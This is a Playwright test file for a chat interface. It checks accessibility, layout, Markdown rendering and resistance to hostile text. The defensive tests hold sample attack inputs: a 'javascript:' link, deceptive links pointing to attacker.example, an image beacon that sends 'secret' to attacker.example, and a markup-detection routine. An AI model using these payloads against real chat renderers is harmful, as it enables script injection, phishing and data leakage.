// The parts of a conversation in a real browser, under the headers of the page: what people see, and what hostile text cannot
// do. Nothing is behind them here; the page has its own tests.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { DESKTOP, fitTall, type Gallery, openGallery, PHONE, picture, settled, show, talk, ui } from '../support/gallery.ts';
import { accessibilityFaults, becomes } from '../support/page.ts';
import { verifies } from '../support/verifies.ts';
import { hostileTexts } from './fixtures/chat-parts/hostile-texts.ts';

let gallery: Gallery;

before(async () => {
  gallery = await openGallery();
});
after(() => gallery?.[Symbol.asyncDispose]());

for (const theme of ['light', 'dark'] as const) {
  for (const [size, options] of [
    ['desktop', DESKTOP],
    ['phone', PHONE],
  ] as const) {
    test(`every part passes axe, stays inside the screen and keeps the page's rules (${theme}, ${size})`, async () => {
      await using shown = await gallery.open(theme, options);
      const { page, faults } = shown;
      for (const name of ['streamed', 'waiting', 'every', 'inbox', 'composers'] as const) {
        await show(page, { name });
        if (name === 'every') await fitTall(page);
        await picture(page, `${name}-${theme}-${size}`);
        assert.deepEqual(await page.evaluate('seen'), [], `${name}: what the page's own code did`);
        await becomes(() => accessibilityFaults(page), [], name);
        await becomes(() => page.evaluate('document.documentElement.scrollWidth <= innerWidth'), true, `${name} scrolls sideways`);
      }
      assert.deepEqual(faults, []);
    });
  }
}

test('a rule of the style sheet names no colour of its own', () => {
  const css = readFileSync(join(ui, 'chat/chat.css'), 'utf8');
  assert.deepEqual(css.match(/#[0-9a-f]{3,8}\b|\brgba?\(|\bhsla?\(/gi), null);
});

test('hostile text in every field stays text', async () => {
  verifies('S63', 'S64', 'S65', 'S66');
  assert.ok(hostileTexts.length >= 200, `${hostileTexts.length} texts`);
  await using shown = await gallery.open();
  const { page, faults } = shown;
  for (let at = 0; at < hostileTexts.length; at += 12) {
    const texts = hostileTexts.slice(at, at + 12);
    await show(page, { name: 'hostile', texts });
    await openEverything(page);
    await becomes(() => page.locator('.row').count(), texts.length * 15, 'every field is on the page');
    assert.deepEqual(await page.evaluate(findMarkup), [], texts.join(' | '));
    // What people can touch runs nothing either.
    await page.evaluate('for (const each of document.querySelectorAll("[role=log] button:not([aria-expanded])")) each.click()');
    await page.evaluate(
      'for (const each of document.querySelectorAll("#root *")) each.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))',
    );
    await settled(page);
    assert.deepEqual(await page.evaluate('seen'), [], texts.join(' | '));
    assert.deepEqual(faults, [], texts.join(' | '));
  }
});

/** Opens what is folded, so that its text is on the page, too; three times, because some fold inside. */
async function openEverything(page: Page): Promise<void> {
  for (let round = 0; round < 3; round++) {
    await page.evaluate('for (const each of document.querySelectorAll("[role=log] [aria-expanded=false]")) each.click()');
    await settled(page);
  }
}

/** Runs in the page: everything in it that only markup, handlers, styles or ids of the text could have made. */
const findMarkup = `(() => {
  const root = document.getElementById('root');
  const found = [];
  const known = new Set(['A','ARTICLE','B','BDI','BLOCKQUOTE','BR','BUTTON','CODE','DD','DEL','DIV','DL','DT','EM','FORM','H1','H2','H3','H4','H5','H6','HR','IMG','INPUT','LI','MAIN','MARK','OL','OPTION','P','PRE','SECTION','SELECT','SPAN','STRONG','SUP','TABLE','TBODY','TD','TEXTAREA','TH','THEAD','TIME','TR','UL','path','rect','svg']);
  const styles = /^(height|top|text-align|--keyboard|--tall): [^;]*;?$/;
  for (const each of root.querySelectorAll('*')) {
    if (!known.has(each.tagName)) found.push('element ' + each.tagName);
    for (const { name, value } of each.attributes) {
      if (name.startsWith('on')) found.push('handler ' + each.outerHTML.slice(0, 120));
      if (name === 'id' && !/^_r_[0-9a-z]+_(-\\d+)?$/.test(value)) found.push('id ' + value);
      if (name === 'name' || name === 'srcset' || name === 'action' || name === 'formaction' || name === 'srcdoc') found.push('attribute ' + name);
      if (name === 'style' && !styles.test(value)) found.push('style ' + value);
    }
    if (each.tagName === 'A') {
      if (!['http:', 'https:', 'mailto:'].includes(each.protocol)) found.push('link ' + each.href);
      if (each.target !== '_blank' || each.rel !== 'noopener noreferrer') found.push('link that keeps a way back ' + each.outerHTML);
    }
    if (each.tagName === 'IMG' && !/^data:image\\/(png|jpeg|gif|webp);base64,/.test(each.getAttribute('src') ?? 'data:image/png;base64,')) found.push('image ' + each.src);
    if (each.tagName === 'INPUT' && each.type !== 'file') found.push('input ' + each.outerHTML);
  }
  for (const each of document.head.children) if (!['META', 'TITLE', 'LINK'].includes(each.tagName)) found.push('head ' + each.outerHTML);
  return found;
})()`;

test('a text that nobody could read takes nothing else away', async () => {
  await using shown = await gallery.open();
  const { page } = shown;
  const deep = [
    '>'.repeat(5_000),
    '- '.repeat(3_000),
    `${'*_'.repeat(990)}x${'_*'.repeat(990)}`,
    '['.repeat(3_900),
    '**a*b'.repeat(790),
    '![a]('.repeat(900),
  ];
  const items = deep.map((text, index) => ({
    kind: 'assistant',
    key: `deep${index}`,
    agent: 'main',
    at: 0,
    text: `${text} end${index}`,
    streaming: false,
  }));
  for (const [index, item] of items.entries()) {
    await show(page, { name: 'items', items: [item, ...talk(2)] });
    await becomes(() => page.locator('.row').first().innerText(), new RegExp(`end${index}`));
    await page.getByText('question 0').waitFor();
  }
});

test('links open pages and mail, and say so when they go elsewhere than they read; the rest is text', async () => {
  verifies('S64');
  await using shown = await gallery.open();
  const { page } = shown;
  const text = [
    '[page](https://example.com/a) [mail](mailto:a@example.com) [plain](http://example.com)',
    '[script](javascript:pwned(1)) [relative](/settings) [beside](//attacker.example) [inside](#top)',
    '[https://good.example](https://attacker.example/x) [**bank.example**][elsewhere]',
    '[elsewhere]: https://attacker.example/y',
  ].join('\n\n');
  await show(page, { name: 'items', items: [{ kind: 'assistant', key: 'a', agent: 'main', at: 0, text, streaming: false }] });
  const links = await page.locator('.md a').evaluateAll((all) => all.map((each) => each.getAttribute('href')));
  assert.deepEqual(links, [
    'https://example.com/a',
    'mailto:a@example.com',
    'http://example.com/',
    'https://attacker.example/x',
    'https://attacker.example/y',
  ]);
  const words = await page.locator('.md').innerText();
  assert.match(words, /script javascript:pwned\(1\)/);
  assert.match(words, /relative \/settings/);
  assert.match(words, /beside \/\/attacker\.example/);
  assert.match(words, /https:\/\/good\.example \(goes to attacker\.example\) bank\.example \(goes to attacker\.example\)/);
});

test('Markdown becomes structure: lists, tasks, tables, quotes, code, footnotes; HTML stays the text that it is', async () => {
  await using shown = await gallery.open();
  const { page } = shown;
  const text = [
    '# One\n##### Five',
    '3. three\n4. four\n   - loose `co  de`\n\n     ```ts\n     const a = 1;\n     ```',
    '- [x] done **bold *both***\n- [ ] open ~~gone~~',
    '| a | b |\n|:-:|--:|\n| 1 |\n',
    '> quoted<b>x</b>  \n> next[^n]',
    '<div>block</div>',
    '[^n]: the note',
  ].join('\n\n');
  await show(page, { name: 'items', items: [{ kind: 'assistant', key: 'a', agent: 'main', at: 0, text, streaming: false }] });
  const html = await page.locator('.md').evaluate((drawn) =>
    drawn.innerHTML
      .replace(/<div class="md-code">.*?<pre>/gs, '<pre>')
      .replace(/<(svg|button).*?<\/\1>/gs, '')
      .replace(/ (?:class|tabindex|aria-labelledby|id)="[^"]*"/g, ''),
  );
  for (const part of [
    '<h3>One</h3><h5>Five</h5>',
    '<ol start="3"><li>three</li><li>four<ul><li><p>loose <code><bdi>co  de</bdi></code></p><pre><code><bdi>const a = 1;</bdi></code></pre>',
    '<li><span role="img" aria-label="done"></span> done <strong>bold <em>both</em></strong></li>',
    '<li><span role="img" aria-label="not done"></span> open <del>gone</del></li>',
    '<th style="text-align: center;">a</th><th style="text-align: right;">b</th>',
    '<td style="text-align: center;">1</td><td style="text-align: right;"></td>',
    '<blockquote><p>quoted&lt;b&gt;x&lt;/b&gt;<br>next<sup>1</sup></p></blockquote>',
    '<p>&lt;div&gt;block&lt;/div&gt;</p>',
    '<section><h3>Footnotes</h3><ol><li><p>the note</p></li></ol></section>',
  ])
    assert.ok(html.includes(part), `${part}\nis in\n${html}`);
});

test('an image on another host is named and not loaded; one inside the text is shown when asked', async () => {
  verifies('S65');
  await using shown = await gallery.open();
  const { page, faults } = shown;
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
  const text = `![beacon](https://attacker.example/?d=secret)\n\n![dot](data:image/png;base64,${dot})\n\n![drawing](data:image/svg+xml;base64,PHN2Zy8+)`;
  await show(page, { name: 'items', items: [{ kind: 'assistant', key: 'a', agent: 'main', at: 0, text, streaming: false }] });
  await becomes(() => page.locator('.md img').count(), 0);
  await page.getByRole('link', { name: 'Image beacon, on attacker.example' }).waitFor();
  await page.getByRole('button', { name: /^Show image dot/ }).click();
  await becomes(
    () => page.getByRole('img', { name: 'dot' }).evaluate((each) => (each as unknown as { naturalWidth: number }).naturalWidth),
    1,
  );
  await becomes(() => page.getByRole('button', { name: /drawing/ }).count(), 0);
  assert.deepEqual(faults, []);
  assert.deepEqual(await page.evaluate('seen'), []);
});

test('everything fits 320 pixels, with reduced motion nothing moves, and forced colours keep the edges', async () => {
  await using shown = await gallery.open('light', {
    viewport: { width: 320, height: 640 },
    reducedMotion: 'reduce',
    forcedColors: 'active',
  });
  const { page } = shown;
  for (const name of ['streamed', 'waiting', 'every', 'inbox', 'composers']) {
    await show(page, { name });
    if (name === 'every') await fitTall(page);
    await becomes(() => page.evaluate('document.documentElement.scrollWidth <= innerWidth'), true, `${name} scrolls sideways`);
    const wide = await page.evaluate(
      `[...document.querySelectorAll('#root *')].filter((each) => each.getBoundingClientRect().right > innerWidth + 1 && !each.closest('.md-code-text, .md-table, .tool-subject bdi, .visually-hidden, h1, h2')).map((each) => each.className || each.tagName)`,
    );
    assert.deepEqual(wide, [], name);
    await becomes(() => page.evaluate('document.getAnimations().length'), 0, `${name} moves`);
    await picture(page, `narrow-${name}`);
  }
  await becomes(() => page.evaluate('getComputedStyle(document.querySelector(".composer")).borderTopStyle'), 'solid');
});
